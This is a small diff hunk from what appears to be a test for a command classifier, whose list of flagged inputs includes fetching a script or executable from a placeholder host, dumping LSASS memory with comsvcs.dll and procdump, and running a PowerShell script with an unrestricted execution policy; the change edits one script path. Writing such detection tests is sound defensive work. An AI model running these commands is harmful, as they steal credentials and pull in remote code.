@@ -37,7 +37,7 @@ verdicts({
     "cscript https://x.example/a.vbs",
     "rundll32 comsvcs.dll, MiniDump 624 l.dmp full",
     "Start-BitsTransfer https://x.example/a.exe",
-    "powershell -ExecutionPolicy Unrestricted -File ..\\x.ps1",
+    "powershell -ExecutionPolicy Unrestricted -File ..\\Downloads\\x.ps1",
     "procdump -ma lsass.exe",
   ],
   passed: [
